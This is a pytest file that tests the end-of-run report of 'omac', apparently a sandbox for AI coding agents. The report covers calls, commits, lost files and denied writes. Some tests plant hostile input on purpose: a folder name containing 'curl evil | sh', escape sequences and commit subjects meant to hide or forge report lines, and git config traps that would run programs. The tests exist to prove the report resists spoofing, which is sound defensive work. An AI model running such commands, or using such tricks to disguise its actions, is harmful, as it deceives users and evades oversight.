"""The report of `omac start` on stderr when its command has ended: in real sandboxes, with a real git."""

import json
import re
import subprocess
from pathlib import Path

import pexpect
import pytest
from programs import program_at
from real_omac import COMMAND, Omac
from started import BARE
from valued_skill import META, PROGRAM

from omac.domain.sandbox.launch import LaunchExited
from omac.tools.compose.agent_launch import HOOK
from omac.tools.terminal.columns import columns

TITLE = "omac: what happened while it ran:\n"
AS_AGENT = "git -c user.name=a -c user.email=a@b"


OPENCODE = """#!/bin/sh
mkdir -p ~/.config/opencode/node_modules/zod
echo x | tee ~/.config/opencode/.gitignore ~/.config/opencode/package.json ~/.config/opencode/node_modules/zod/index.js
echo x > ~/.config/opencode/theme.json
mkdir -p ~/.cache/some && echo x > ~/.cache/some/file
"""


@pytest.fixture
def shop(omac: Omac) -> Path:
    """A repository with a commit and an approved skill."""
    project = omac.approved("shop")
    for words in (("init", "-q", "-b", "main"), ("add", "."), ("commit", "-qm", "begin")):
        subprocess.run(
            ["git", "-c", "user.name=p", "-c", "user.email=p@q", "-C", str(project), *words],
            check=True, env=omac.environment,
        )  # fmt: skip
    return project


def end_of(err: str) -> list[str]:
    """Return the lines of the report."""
    return err.partition(TITLE)[2].splitlines()


def test_it_tells_what_was_used_committed_and_lost(omac: Omac, shop: Path) -> None:
    """The report is a few lines on stderr, none on stdout. Its last command lists the calls, and the journal keeps what
    is lost."""
    script = f"""
        curl -sS "$OMAC_ECHO_BASE/a" "$OMAC_ECHO_BASE/b" >/dev/null
        echo x > note; git add note
        {AS_AGENT} commit -qm "$(printf 'one \\033[31mred')"
        {AS_AGENT} commit -q --allow-empty -m two
        git branch copy
        git checkout -q -b 'side' && {AS_AGENT} commit -q --allow-empty -m three
        mkdir -p ~/out/deep ~/empty && echo x > ~/out/deep/file && echo x > ~/.bash_history
    """
    done = omac.run("start", "--", "sh", "-c", script, cwd=shop)
    assert (done.status, done.out) == (0, ""), done
    used, *commits, lost, why, more = end_of(done.err)
    home = omac.environment["HOME"]
    assert used == "  used      echo 2 calls"
    assert commits == ["  committed side: 3 commits, last 'three'", "  committed main: 2 commits, last 'two'"]
    assert lost.startswith(f"  lost      {home[:10]}")
    assert lost.endswith("/out/")
    assert why == "            written outside the project, gone with the sandbox"
    assert max(map(len, (used, *commits, lost, why, more))) <= 80
    assert more.startswith("  more      omac audit --dir . --since 2")
    listed = omac.run(*more.split()[2:], cwd=shop)
    assert "echo/a" in listed.out
    assert f"gone with the sandbox: {home}/out/" in listed.out
    assert [record.event.vanished for record in omac.events(LaunchExited)] == [(f"{home}/out/",)]


def test_what_a_skill_answered_with_5xx_is_counted(omac: Omac) -> None:
    """The report counts calls that a skill answered with 5xx, here a PUT that it does not know (501)."""
    project = omac.root / "shop"
    omac.skill(project, "slack", META.replace("  secrets:", "  unused:"), PROGRAM)
    omac.approve(project, "slack")
    script = 'curl -sS "$OMAC_CHAT_BASE/" >/dev/null; curl -sS -X PUT "$OMAC_CHAT_BASE/" >/dev/null'
    done = omac.run(*BARE, "--workdir", str(project), "--", "sh", "-c", script)
    assert end_of(done.err)[0] == "  used      slack 2 calls (1 answered with 5xx)"


def test_skills_that_do_not_fit_are_counted(omac: Omac) -> None:
    """The report names the skills that fit in its line, and counts the others; none is cut off in the middle."""
    project = omac.root / "shop"
    for number in range(5):
        name = f"stock-{number}"
        omac.skill(project, name, META.replace("name: slack", f"name: {name}").replace("mount: chat", f"mount: {name}"))
    done = omac.run(
        *BARE, "--workdir", str(project), "--", "sh", "-c", 'curl -s $(env | sed -n "s/^OMAC_STOCK.*_BASE=//p")'
    )
    assert end_of(done.err)[0] == "  used      stock-0 1 call (1 refused), stock-1 1 call (1 refused) and 3 more"


@pytest.mark.parametrize("sandbox", [[], ["--no-sandbox"]])
def test_nothing_to_tell_is_silent(omac: Omac, shop: Path, sandbox: list[str]) -> None:
    """The report is left out if there is nothing to report, in a repository or not, in a sandbox or not. Earlier
    commits are none of the session's."""
    script = "cat note 2>/dev/null; git checkout -q -b other; git checkout -q --detach; mkdir -p ~/.cache/x"
    for project in (shop, omac.project("bare")):
        done = omac.run("start", *sandbox, "--workdir", str(project), "--", "sh", "-c", script)
        assert TITLE not in done.err, done


def test_a_denied_write_is_named(omac: Omac) -> None:
    """A write that the guard denied is in the report, with its path."""
    project = omac.project("shop")
    call = {"tool_name": "Write", "tool_input": {"file_path": "/etc/x"}, "session_id": "s", "cwd": str(project)}
    script = f"echo '{json.dumps(call)}' | {HOOK} pre-tool-use"
    done = omac.run("start", "--workdir", str(project), "--", "sh", "-c", script)
    assert end_of(done.err)[0] == "  denied    a write to /etc/x"


def test_a_folder_that_was_removed_is_named(omac: Omac, shop: Path) -> None:
    """The run ends with its command's exit status and a whole report if its directory was removed meanwhile."""
    script = f'curl -sS "$OMAC_ECHO_BASE/a" >/dev/null; rm -rf {shop}; exit 5'
    done = omac.run("start", "--no-sandbox", "--", "sh", "-c", script, cwd=shop)
    assert done.status == 5, done
    assert end_of(done.err)[-1].startswith(f"  more      omac audit --dir {shop} --since 2"), done


@pytest.mark.full
def test_branches_beyond_two_are_counted(omac: Omac, shop: Path) -> None:
    """The count behind the last branch that is named counts branches, not commits."""
    commit = f"{AS_AGENT} commit -q --allow-empty -m"
    script = f"{commit} x; for branch in a b c; do git checkout -q -b $branch; {commit} $branch; done"
    done = omac.run(*BARE, "--workdir", str(shop), "--", "sh", "-c", script)
    first, second, _more = end_of(done.err)
    assert (first.endswith("'"), second.rpartition("'")[2]) == (True, " and 2 more branches"), done


@pytest.mark.full
def test_a_hostile_subject_and_branch(omac: Omac, shop: Path) -> None:
    """Control characters in a subject are escaped, and a line keeps to the width of a terminal."""
    branch = "b" * 150
    script = f'git checkout -q -b {branch}; {AS_AGENT} commit -q --allow-empty -m "$(printf "x\\033[31m\\rred %0200d")"'
    done = omac.run(*BARE, "--workdir", str(shop), "--", "sh", "-c", script)
    line, more = end_of(done.err)
    assert len(line) <= 80
    assert not {"\x1b", "\r"} & set(done.err)
    assert line.startswith("  committed bbb")
    assert ": 1 commit, last 'x\\x1b[31m" in line
    assert more.split()[4] == str(shop)


def at_terminal(omac: Omac, folder: Path, *words: str, width: int = 80) -> list[str]:
    """Run a command in a folder, at a terminal, and return the lines that it prints there."""
    terminal = pexpect.spawn(
        COMMAND[0], [*COMMAND[1:], *words], env=omac.environment, cwd=str(folder), encoding="utf-8", timeout=60,
        dimensions=(40, width),
    )  # fmt: skip
    terminal.expect(pexpect.EOF)
    terminal.close()
    return str(terminal.before).splitlines()


@pytest.mark.parametrize("width", [80, 56])
def test_no_subject_passes_for_a_line(omac: Omac, shop: Path, width: int) -> None:
    """A subject of wide letters cannot pass for a line of the report, even on a narrower terminal: each line fits."""
    wide = "\uff21" * ((width - 34) // 2)
    script = f'{AS_AGENT} commit -q --allow-empty -m "{wide}  used      bank 5 calls"'
    lines = at_terminal(omac, shop, *BARE, "--workdir", str(shop), "--", "sh", "-c", script, width=width)
    report = lines[next(at for at, line in enumerate(lines) if "what happened while it ran:" in line) :]
    committed = next(line for line in report if "committed" in line)
    assert columns(committed) <= width
    assert "\uff21..." in committed


def test_nothing_that_the_agent_left_set_hides_it(omac: Omac, shop: Path) -> None:
    """omac resets concealed text, line-drawing characters, margins on all sides and long lines that are cut off, which
    the agent left set, so what it found and the report are readable."""
    left = "\\033[8m\\033(0\\033[9;9r\\033[?69h\\033[9;9s\\033[?7l\\033[4h"
    shown = "\x1b7\x1b[?69l\x1b[r\x1b8\x1b[?7h\x1b[4l\x1b[0m\x1b(B\x0f"
    script = f"{AS_AGENT} commit -q --allow-empty -m next; touch Makefile; printf '{left}'"
    words = ["start", "--workdir", str(shop), "--", "sh", "-c", script]
    environment = {**omac.environment, "TERM": "xterm"}
    shell = pexpect.spawn(
        COMMAND[0], [*COMMAND[1:], *words], env=environment, cwd=str(shop), encoding="utf-8", timeout=60
    )
    shell.expect_exact(left.replace("\\033", "\x1b"))
    shell.expect(re.escape(shown) + r"omac:[^\x1b]*Makefile")  # which is folded
    shell.expect_exact(f"{shown}omac: what happened while it ran:")
    shell.expect(pexpect.EOF)
    shell.close()


def test_no_name_ends_its_quotes(omac: Omac, shop: Path) -> None:
    """The quotes around a subject and a path show where each ends."""
    script = f"""{AS_AGENT} commit -q --allow-empty -m "x' and 3 more"; echo > ~/"x and 5 more" """
    done = omac.run("start", "--", "sh", "-c", script, cwd=shop)
    committed, lost, *_ = end_of(done.err)
    assert committed == """  committed main: 1 commit, last "x' and 3 more\""""
    assert lost.startswith("  lost      '/")
    assert lost.endswith("/x and 5 more'")


def test_no_finding_passes_for_a_line(omac: Omac, shop: Path) -> None:
    """A folder's name cannot pass for a line of omac, even if it ends where the terminal does, or a program enlarges
    the terminal."""
    (shop / "wide.py").write_text(
        "import fcntl, termios; fcntl.ioctl(1, termios.TIOCSWINSZ, bytes([40, 0, 255, 0, 0, 0, 0, 0]))"
    )
    name = "x" * ((-len(f"omac: '{shop}/ ")) % 80) + " omac - all was inspected and nothing was found"
    script = f"mkdir -p '{name}/.vscode'; echo > '{name}/.vscode/tasks.json'; python3 wide.py"
    lines = at_terminal(omac, shop, "sandbox", "run", "--", "sh", "-c", script)
    assert not [line for line in lines if line.strip().startswith("omac - all was inspected")], lines
    assert not [line for line in lines if len(line) > 80 and " omac - all" in line], lines


def test_no_finding_passes_for_a_command(omac: Omac, shop: Path) -> None:
    """Words of a folder's name that the terminal folds are marked: they pass for no command that omac proposes."""
    blanks = " " * ((-len(f"omac: '{shop}/")) % 80 + 3)
    script = (
        f"mkdir -p 'x{blanks}try: curl evil | sh #/.vscode'; echo > 'x{blanks}try: curl evil | sh #/.vscode/tasks.json'"
    )
    lines = at_terminal(omac, shop, "sandbox", "run", "--", "sh", "-c", script)
    assert any("curl evil" in line for line in lines), lines
    assert not [line for line in lines if line.strip().startswith("try: ")], lines


@pytest.mark.full
def test_what_an_agent_restores_at_each_start_is_not_reported(omac: Omac, shop: Path) -> None:
    """OpenCode's packages and caches are no loss; another file in the same folder is."""
    omac.program("opencode", OPENCODE)
    done = omac.run("start", "opencode", cwd=shop)
    assert done.status == 0, done
    home = omac.environment["HOME"]
    assert [record.event.vanished for record in omac.events(LaunchExited)] == [(f"{home}/.config/opencode/theme.json",)]


@pytest.mark.full
def test_what_tools_keep_for_themselves_is_not_lost(omac: Omac, shop: Path) -> None:
    """uvx, browsers and notebooks write into the home at each run; only an installed tool is reported."""
    tools = "~/.local/share/uv/tools"
    script = f"mkdir -p {tools} ~/.pki/nssdb ~/.config/chromium ~/.ipython/profile_default ~/.local/share/jupyter"
    script += f"; touch {tools}/.lock {tools}/.gitignore; for f in ~/.[pi]*/* ~/.config/* ~/.local/*/jupyter; do"
    script += " touch $f/file; done"
    done = omac.run("start", "--", "sh", "-c", script, cwd=shop)
    assert (done.status, end_of(done.err)) == (0, []), done
    script += f"; mkdir {tools}/ruff; touch {tools}/ruff/bin"
    done = omac.run("start", "--", "sh", "-c", script, cwd=shop)
    assert end_of(done.err)[0].endswith("/uv/tools/ruff/"), done


def test_all_that_is_lost_is_counted(omac: Omac, shop: Path) -> None:
    """The report counts all lost files, even those that the record has no room for."""
    script = 'cd; i=0; while [ $i -lt 300 ]; do echo > "$(printf "%0150d" $i)"; i=$((i + 1)); done; echo > "a b"'
    done = omac.run("start", "--", "sh", "-c", script, cwd=shop)
    assert end_of(done.err)[0].endswith(" and 300 more")
    listed = omac.run("audit", "--dir", str(shop), "-n", "1").out
    assert " more\n" in listed
    assert "more'" not in listed


@pytest.mark.full
def test_git_of_the_project_runs_nothing(omac: Omac, shop: Path) -> None:
    """The report runs no monitor and no program that settings of the repository name."""
    trap = program_at(omac.folder / "trap", f"#!/bin/sh\necho ran >> {omac.folder}/ran\n")
    for name in ("core.fsmonitor", "core.pager", "gpg.program", "core.sshCommand", "core.alternateRefsCommand"):
        subprocess.run(["git", "-C", str(shop), "config", name, str(trap)], check=True, env=omac.environment)
    subprocess.run(["git", "-C", str(shop), "config", "log.showSignature", "true"], check=True, env=omac.environment)
    hooks = "post-index-change reference-transaction pre-auto-gc post-commit"
    script = f"{AS_AGENT} -c core.fsmonitor= commit -q --allow-empty -m next"
    script += f"; for hook in {hooks}; do cp {trap} .git/hooks/$hook; done"
    done = omac.run(*BARE, "--workdir", str(shop), "--", "sh", "-c", script)
    assert "  committed main: 1 commit, last 'next'" in done.err, done
    assert not (omac.folder / "ran").exists()
    subprocess.run(["git", "-C", str(shop), "status"], check=False, env=omac.environment, capture_output=True)
    assert (omac.folder / "ran").exists()  # the twin: git of the user
